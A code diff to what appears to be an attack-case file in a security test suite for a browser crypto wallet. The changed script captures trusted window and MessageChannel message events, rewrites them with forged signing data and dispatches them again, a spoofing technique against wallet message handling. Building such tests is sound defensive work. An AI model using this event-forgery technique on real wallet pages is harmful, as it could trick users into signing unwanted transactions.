@@ -3,17 +3,25 @@ import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'
 
 export default {
   family: 'wire',
-  how: 'Keeps a trusted message event and dispatches it again with other data.',
+  how: 'Keeps trusted message events, of the window and of a channel of its own, and dispatches them again with other data.',
   script: `
-    const event = await new Promise((got) => {
-      addEventListener('message', got, { once: true })
-      postMessage(attack.posted({ method: 'eth_chainId', params: [] }, 3), '*')
-    })
+    const events = await Promise.all([
+      new Promise((got) => {
+        addEventListener('message', (each) => each.data?.data?.data?.id === 3 && got(each))
+        postMessage(attack.posted({ method: 'eth_chainId', params: [] }, 3), '*')
+      }),
+      new Promise((got) => {
+        const { port1, port2 } = new MessageChannel()
+        port1.onmessage = got
+        port2.postMessage(0)
+      }),
+    ])
     await attack.sleep(20)
     const data = attack.posted(attack.sign)
-    event.initMessageEvent('message', false, false, data, location.origin, '', window, [])
-    try { Object.defineProperty(event, 'data', { value: data }) } catch {}
-    dispatchEvent(event)
+    for (const event of events) {
+      event.initMessageEvent('message', false, false, data, location.origin, '', window, [])
+      dispatchEvent(event)
+    }
     await attack.sleep(300)
   `,
   open: { 'wallet-before': WIRE_HEARD_FIRST },
